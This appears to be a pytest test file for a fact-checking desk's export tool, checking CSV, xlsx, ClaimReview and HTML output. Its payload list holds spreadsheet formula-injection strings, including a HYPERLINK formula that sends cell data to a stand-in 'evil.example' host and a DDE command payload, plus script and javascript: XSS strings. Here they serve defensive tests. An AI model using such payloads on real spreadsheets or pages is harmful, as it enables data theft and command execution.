"""Claim sheets: CSV, xlsx, ClaimReview, HTML, formula injection, the export CLI (issue #5, #6)."""
from __future__ import annotations

import csv
import io
import json

import pytest
from click.testing import CliRunner

from lib import export
from lib import settings as settings_module

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "-2+3",
    "+1",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
]


def claim(cid="c1", text="Pyongyang has sent about 12,000 troops to Russia.", **extra):
    """A claim row shaped like `claims --json` plus editors' fields."""
    row = {
        "id": cid, "text": text, "speaker": "Ukraine's military intelligence", "story_id": "s1",
        "figures": [{"value": 12000, "qualifier": "about", "unit": "troops",
                     "what": "North Korean troops in Russia", "parts": [2, 6000]}],
        "cue": {"status": "unverified", "actor": "Euronews", "phrase": "Euronews was unable to independently verify"},
        "cues": [{"report_id": "r1", "status": "unverified", "actor": "Euronews",
                  "phrase": "Euronews was unable to independently verify"},
                 {"report_id": "r2", "status": "none", "actor": None, "phrase": None}],
        "suggested_status": "unverified", "status": "unverified",
        "appearances": [{"report_id": "r1", "outlet": "Euronews", "sentence": text, "sentence_index": 3},
                        {"report_id": "r2", "outlet": "Politico", "sentence": text, "sentence_index": 1}],
        "conflicts_with": ["c2"], "note": "Asked HUR", "evidence_url": "https://example.org/ev",
        "assignee": "ana", "updated_at": "2024-10-26T10:00:00",
    }
    row.update(extra)
    return row


REPORTS = {
    "r1": {"id": "r1", "outlet": "Euronews", "url": "https://www.euronews.com/a", "title": "Troops", "date": "2024-10-25"},
    "r2": {"id": "r2", "outlet": "Politico", "url": None, "title": "Kyiv says", "date": "2024-10-24"},
}


@pytest.fixture
def data():
    """Three claims over two stories, one unreviewed, one with a hostile text."""
    return export.ExportData(
        claims=[claim(), claim("c2", "Żółć: Kirby said 3,000 soldiers.", status="unreviewed", story_id="s2",
                               speaker="John Kirby", suggested_status=None),
                claim("c3", "=HYPERLINK(\"http://x\",\"y\")", status="denied", speaker="@SUM(1+1)")],
        reports=REPORTS, stories={"s1": "North Korean troops", "s2": "Kirby briefing"},
    )


@pytest.fixture
def cfg():
    """Settings with a known newsroom and review URL pattern."""
    return settings_module.load({}, newsroom="The Desk", review_url="https://desk.example/r/{claim_id}")


@pytest.mark.parametrize("payload", PAYLOADS)
def test_neutralise_prefixes_formula_text(payload):
    safe = export.neutralise(payload)
    assert safe == "'" + payload  # readable: the text itself is kept whole


@pytest.mark.parametrize("value", ["12,000 troops", "Kyiv", "", "a=b", "3-2", 12000, None])
def test_neutralise_leaves_plain_values(value):
    assert export.neutralise(value) == value


def test_csv_has_bom_and_every_claim(data):
    raw = export.to_csv(data)
    assert raw.startswith(b"\xef\xbb\xbf")
    rows = list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"))))
    assert [r["Claim ID"] for r in rows] == ["c1", "c2", "c3"]
    first = rows[0]
    assert first["Desk status"] == "Unable to independently verify"
    assert first["Status code"] == "unverified"
    assert first["Figures"] == "about 12,000 troops (2 × 6,000)"
    assert first["Report cues"] == "Euronews: unable to independently verify"
    assert first["Story"] == "North Korean troops"
    assert "https://www.euronews.com/a" in first["Sources"]
    assert rows[1]["Claim"].startswith("Żółć")  # accents survive


@pytest.mark.parametrize("payload", PAYLOADS)
def test_csv_neutralises_payloads(payload):
    d = export.ExportData([claim(text=payload, speaker=payload, note=payload)], REPORTS)
    rows = list(csv.reader(io.StringIO(export.to_csv(d).decode("utf-8-sig"))))
    for cell in rows[1]:
        assert not cell.startswith(export._FORMULA_START), cell
    assert payload in rows[1][2]


@pytest.mark.parametrize("per_story", [False, True])
def test_xlsx_no_formula_header_links(data, per_story):
    from openpyxl import load_workbook

    for p in PAYLOADS:
        data.claims.append(claim(f"p{len(data.claims)}", text=p, speaker=p, note=p, story_id="s2"))
    wb = load_workbook(io.BytesIO(export.to_xlsx(data, sheet_per_story=per_story)))
    if per_story:
        assert wb.sheetnames == ["North Korean troops", "Kirby briefing"]
    else:
        assert wb.sheetnames == ["Claims"]
        assert wb["Claims"]["B1"].value == "Story"
    texts = []
    for ws in wb.worksheets:
        assert ws["A1"].value == "Claim ID" and ws["A1"].font.bold
        assert ws.freeze_panes == "A2"
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert not cell.value.startswith(("=", "+", "-", "@", "\t", "\r")), cell.value
                    texts.append(cell.value)
    for p in PAYLOADS:
        assert "'" + p in texts
    ws = wb.worksheets[0]
    header = [c.value for c in ws[1]]
    src = header.index("Source 1") + 1
    link_cell = ws.cell(row=2, column=src)
    assert link_cell.value == "Euronews 2024-10-25"
    assert link_cell.hyperlink.target == "https://www.euronews.com/a"
    assert ws.cell(row=2, column=src + 1).hyperlink is None  # Politico has no URL


def test_claimreview_shape(data, cfg):
    reviews = export.to_claimreview(data, cfg)
    assert [r["claimReviewed"] for r in reviews] == [data.claims[0]["text"], data.claims[2]["text"]]
    r = reviews[0]
    assert r["@context"] == "https://schema.org" and r["@type"] == "ClaimReview"
    assert r["url"] == "https://desk.example/r/c1"
    assert r["author"] == {"@type": "Organization", "name": "The Desk"}
    assert r["reviewRating"]["alternateName"] == "Unable to independently verify"
    assert r["datePublished"] == "2024-10-26"
    item = r["itemReviewed"]
    assert item["@type"] == "Claim"
    assert item["author"] == {"@type": "Organization", "name": "Ukraine's military intelligence"}
    assert item["appearance"][0]["url"] == "https://www.euronews.com/a"
    assert item["appearance"][1]["publisher"]["name"] == "Politico"
    assert item["datePublished"] == "2024-10-24"
    assert reviews[1]["reviewRating"]["alternateName"] == "Denied"
    json.dumps(reviews)  # serialisable as is


def test_claimreview_person_author(cfg):
    d = export.ExportData([claim(speaker="John Kirby")], REPORTS)
    assert export.to_claimreview(d, cfg)[0]["itemReviewed"]["author"]["@type"] == "Person"


def test_custom_status_label(cfg):
    d = export.ExportData([claim(status="misleading")], REPORTS,
                          labels={"unreviewed": "Unreviewed", "misleading": "Misleading"})
    assert export.to_claimreview(d, cfg)[0]["reviewRating"]["alternateName"] == "Misleading"


def test_html_escapes_text(cfg):
    d = export.ExportData([claim(text="<script>alert(1)</script> [x](javascript:alert(1))",
                                 evidence_url="javascript:alert(1)")], REPORTS, {"s1": "<b>Story</b>"})
    page = export.to_html(d, cfg)
    assert "<script>alert" not in page and "&lt;script&gt;" in page
    assert "&lt;b&gt;Story&lt;/b&gt;" in page
    assert "href='javascript" not in page
    assert "href='https://www.euronews.com/a'" in page
    assert "@media print" in page


@pytest.mark.parametrize("fmt", export.FORMATS)
def test_render_every_format(data, cfg, fmt):
    assert export.render(data, fmt, cfg)


def test_render_unknown_format(data, cfg):
    from lib.errors import InvalidValue

    with pytest.raises(InvalidValue, match="Unknown export format 'pdf'"):
        export.render(data, "pdf", cfg)


# -- against the seeded store, through the CLI ---------------------------------------
needs_claims = pytest.mark.skipif(
    not hasattr(__import__("lib.store", fromlist=["Store"]).Store, "claims"),
    reason="claims store helper not there yet")


@needs_claims
@pytest.mark.parametrize("fmt", export.FORMATS)
def test_cli_export(seeded_store, tmp_path, fmt):
    from lib.cli import cli

    out = tmp_path / f"sheet.{export.EXTENSIONS[fmt]}"
    result = CliRunner().invoke(cli, ["--db", seeded_store.settings.database_url, "export",
                                      "--format", fmt, "--out", str(out)])
    assert result.exit_code == 0, result.output
    assert out.stat().st_size > 0
    if fmt == "csv":
        rows = list(csv.DictReader(io.StringIO(out.read_bytes().decode("utf-8-sig"))))
        assert any("12,000" in r["Figures"] for r in rows)
    if fmt == "claimreview":
        assert json.loads(out.read_text()) == []  # nothing marked yet


@needs_claims
def test_cli_export_claimreview_after_marking(seeded_store, tmp_path):
    from lib.cli import cli

    c = next(c for c in seeded_store.claims() if "12,000" in c["text"])
    seeded_store.set_status(c["id"], "unverified", editor="ana", expected_version=c.get("version"))
    out = tmp_path / "cr.json"
    result = CliRunner().invoke(cli, ["--db", seeded_store.settings.database_url, "export",
                                      "--format", "claimreview", "--out", str(out), "--status", "unverified"])
    assert result.exit_code == 0, result.output
    reviews = json.loads(out.read_text())
    assert [r["claimReviewed"] for r in reviews] == [c["text"]]
    assert reviews[0]["reviewRating"]["alternateName"] == "Unable to independently verify"


@needs_claims
@pytest.mark.parametrize("args, message", [
    (["--story", "nope"], "Error: Story 'nope' does not exist"),
    (["--status", "bogus"], "Error: Unknown desk status 'bogus'; expected one of unreviewed, unverified"),
])
def test_cli_export_errors(seeded_store, tmp_path, args, message):
    from lib.cli import cli

    result = CliRunner().invoke(cli, ["--db", seeded_store.settings.database_url, "export", "--format", "csv",
                                      "--out", str(tmp_path / "x.csv"), *args])
    assert result.exit_code == 1
    assert message in result.output
    assert not (tmp_path / "x.csv").exists()


@needs_claims
def test_gather_dates_reviews_by_last_mark(seeded_store, cfg):
    c = seed_claim = next(c for c in seeded_store.claims() if "12,000" in c["text"])
    seeded_store.set_status(c["id"], "confirmed", editor="ana")
    data = export.gather(seeded_store, status="confirmed")
    review = export.to_claimreview(data, cfg)[0]
    assert review["datePublished"] == seeded_store.desk_claim(seed_claim["id"])["updated_at"].date().isoformat()
